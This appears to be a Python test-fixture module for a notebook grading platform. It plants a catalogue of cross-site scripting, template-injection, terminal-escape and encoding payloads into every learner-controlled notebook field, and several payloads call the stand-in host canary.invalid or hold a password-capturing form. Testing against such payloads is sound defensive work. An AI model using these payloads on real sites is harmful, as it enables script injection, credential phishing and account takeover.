"""What a learner may write to reach the pages of others, and where it may be written.

A payload that works sets `window.pwned`, makes an element with the attribute `data-pwned`, opens a
dialog or asks the host `canary.invalid` for something.
"""

import base64
import json

DO = "window.pwned=1;fetch('http://canary.invalid/')"
PAYLOADS = {
    "script": f"<script data-pwned>{DO}</script>",
    "script-ends-early": f"</script></style></textarea></pre></code></title><script data-pwned>{DO}</script>",
    "image": f'<img data-pwned src=x onerror="{DO}">',
    "image-elsewhere": "<img data-pwned src=http://canary.invalid/x.png>",
    "svg": f'<svg data-pwned onload="{DO}"><animate onbegin="{DO}" attributeName=x dur=1s></svg>',
    "details": f'<details data-pwned open ontoggle="{DO}">x</details>',
    "frame": f"<iframe data-pwned srcdoc='<script>parent.{DO}</script>'></iframe>",
    "attribute": f"\" data-pwned autofocus onfocus=\"{DO}\" x=\"' data-pwned onmouseover='{DO}' x='",
    "link": f'<a data-pwned href="javascript:{DO}">x</a>',
    "markdown-link": f"[x](javascript:{DO}) ![x](http://canary.invalid/y.png) <javascript:{DO}>",
    "style": "<style data-pwned>@import 'http://canary.invalid/a.css';*{display:none;background:url(http://canary.invalid/b)}</style>",
    "refresh": "<meta data-pwned http-equiv=refresh content='0;url=http://canary.invalid/'><base data-pwned href=http://canary.invalid/>",
    "form": "<form data-pwned action=http://canary.invalid/><input data-pwned name=password></form>",
    "math": f"$\\href{{javascript:{DO}}}{{x}}$ $$\\require{{html}}\\style{{position:fixed}}{{x}}\\class{{data-pwned}}{{x}}$$ \\(\\unicode{{x3c}}img\\)",
    "math-markup": f'<math data-pwned href="javascript:{DO}"><mtext><img data-pwned src=x onerror="{DO}"></mtext></math>',
    "template": "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}<%= 7 * 191 %>${7 * 191}#{7 * 191}",
    "controls": f'\x1b]8;;http://canary.invalid\x07\x1b[2J\x1b[31m\u202e\u2066\u200b\x00\x08\x7f\x9b<img data-pwned src=x onerror="{DO}">',
    "half-a-character": f"\ud83d<script data-pwned>{DO}</script>\udc00",
    "rich": "[/b][link=http://canary.invalid]x[/link][blink]",
    "entities": f'&lt;script data-pwned&gt;{DO}&lt;/script&gt;&#60;img data-pwned src=x onerror="{DO}"&#62;',
    "utf-7": "+ADw-script data-pwned+AD4-window.pwned=1+ADw-/script+AD4-",
}
# Names of folders, as an instructor may get them from elsewhere; a learner's real name is none of these.
FOLDERS = (
    "<img data-pwned src=x onerror=window.pwned=1>",
    '"><svg data-pwned onload=window.pwned=1>',
    "'-window.pwned-'",
    "javascript:window.pwned=1",
    "{{ 7 * 191 }}",
    "[b][",
    "=1+1",
    "a\u202eb\x1b[2J",
    "half\udcff",
)
HIDDEN = "never-to-be-shown"
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + HIDDEN.encode()).decode()


def spoiled(notebook, payload: str) -> str:
    """Return the notebook as text, with the payload wherever a learner can put one."""
    raw = json.loads(json.dumps(notebook))
    note = f"{HIDDEN} {payload}"
    raw["metadata"] = {
        "title": note,
        "kernelspec": {"name": note, "display_name": note},
        "language_info": {"name": note},
        "widgets": {note: {}},
        "authors": [{"name": note}],
    }
    for cell in raw["cells"]:
        cell["metadata"].update(tags=[note], name=note, title=note, collapsed=note, jupyter={"source": note}, slideshow=note)
        if cell["cell_type"] == "code":
            cell["outputs"] = _outputs(note)
        if not cell["id"].startswith("answer-"):
            cell |= {"source": note, "attachments": {note: {"image/png": PIXEL, "text/html": note}}}
    raw["cells"] += [_cell("markdown", note), _cell("raw", note), _cell("code", note), _cell(note, note)]
    for cell in raw["cells"]:
        cell["source"] = _answers(payload).get(cell["id"], cell["source"])
    return json.dumps(raw)


def _cell(kind: str, note: str) -> dict:
    return {
        "cell_type": kind,
        "id": note,
        "metadata": {"nbgrader": {"grade_id": note, "grade": True, "solution": True, "points": 9, "comment": note}},
        "source": note,
        "outputs": _outputs(note),
        "attachments": {note: {"image/svg+xml": note}},
    }


def _outputs(note: str) -> list[dict]:
    kinds = (
        "text/html",
        "image/svg+xml",
        "application/javascript",
        "text/markdown",
        "text/latex",
        "text/plain",
        "application/vnd.jupyter.widget-view+json",
    )
    data = {kind: note for kind in kinds} | {"image/png": PIXEL}
    return [
        {"output_type": "display_data", "data": data, "metadata": {note: note}},
        {"output_type": "execute_result", "execution_count": 1, "data": data, "metadata": {}},
        {"output_type": "stream", "name": "stdout", "text": note},
        {"output_type": "error", "ename": note, "evalue": note, "traceback": [note]},
    ]


def _answers(payload: str) -> dict[str, str]:
    """Return answers that carry the payload in comments, texts, errors, classes and what they return."""
    seen = payload.replace("\n", " ").replace("\0", "").encode("utf-8", "replace").decode()  # as Python can read it
    text, kind = ascii(f"SHOWN {payload}"), ascii(seen)
    return {
        "answer-masks": f"# {seen}\ndef causal_mask(length):\n    {kind}\n    print({text})\n    raise ValueError({text})\n",
        "answer-softmax": f"def softmax(*all, **named):\n    raise type({kind}, (Exception,), {{}})({text})\n",
        "answer-attention": f"def scaled_dot_product_attention(*all, **named):\n    return {text}\n",
        "answer-module": f"def SingleHeadAttention(*all, **named):\n    return type({kind}, (), {{}})()\n",
    }
